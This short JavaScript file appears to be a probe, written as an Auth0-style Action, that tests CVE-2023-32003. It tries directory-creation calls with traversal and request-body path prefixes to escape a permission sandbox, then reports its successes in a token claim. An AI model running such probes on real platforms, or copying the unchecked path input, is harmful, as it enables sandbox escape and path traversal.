// outcome: completed; claim made=[]; beside served
// CVE-2023-32003: `fs.mkdtemp` made its folder wherever the prefix led.
const fs = require('node:fs')
const { promisify } = require('node:util')
const ways = {
  mkdtempSync: (prefix) => fs.mkdtempSync(prefix),
  mkdtemp: (prefix) => promisify(fs.mkdtemp)(prefix),
  'promises.mkdtemp': (prefix) => fs.promises.mkdtemp(prefix),
  'mkdtempSync of a Buffer': (prefix) => fs.mkdtempSync(Buffer.from(prefix)),
  'mkdtempSync of a URL': (prefix) => fs.mkdtempSync(new URL(`file://${prefix}`)),
  'mkdirSync, recursive': (prefix) => fs.mkdirSync(`${prefix}a/b`, { recursive: true }),
  'promises.mkdir': async (prefix) => (await fs.promises.mkdir(`${prefix}c`)) ?? true,
}
exports.onExecuteCredentialsExchange = async (event, api) => {
  const made = []
  for (const prefix of [
    '/tmp/x',
    `${__dirname}/../../../tmp/x`,
    `${__dirname}/x`,
    `${event.request.body.data}/`,
    './x',
    '../x',
  ]) {
    for (const [name, make] of Object.entries(ways)) {
      try {
        if (await make(prefix)) made.push(`${name} ${prefix}`)
      } catch {
        // Refused.
      }
    }
  }
  api.accessToken.setCustomClaim('made', made)
}
